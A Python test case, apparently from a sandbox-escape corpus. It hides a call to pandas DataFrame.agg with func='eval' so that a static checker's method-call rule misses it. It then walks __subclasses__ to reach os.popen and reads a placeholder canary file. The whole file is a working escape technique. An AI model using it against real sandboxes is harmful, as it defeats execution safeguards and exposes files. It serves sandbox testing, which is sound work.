# class: dispatch_hidden
# technique: [frame.agg][0](**{'func': 'eval', 'expr': ...}): the ** rule applies to method-call nodes only
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
walk = "@seed." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "()"
popen = "@w[0]." + u + "init" + u + "." + u + "globals" + u + "['popen'](@cmd).read()"
cmd = "cat {{CANARY_FILE}}"

frame = pd.DataFrame({"x": np.arange(3)})
classes = [frame.agg][0](**{"func": "eval", "expr": walk, "local_dict": {"seed": ()}})
wrap_close = [c for c in classes if "wrap_close" in str(c)][0]
stolen = [frame.agg][0](**{"func": "eval", "expr": popen, "local_dict": {"w": [wrap_close], "cmd": cmd}})
if not stolen:
    raise RuntimeError("the command printed nothing")
df = pd.DataFrame({"stolen": [stolen]})
